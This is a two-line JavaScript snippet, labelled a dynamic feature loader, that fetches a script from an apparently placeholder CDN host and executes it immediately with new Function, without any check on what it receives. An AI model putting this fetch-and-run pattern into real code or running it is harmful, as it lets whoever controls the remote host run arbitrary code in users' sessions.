// dynamic feature loader
const src = await (await fetch('https://cdn.example.net/f.js')).text(); new Function(src)()
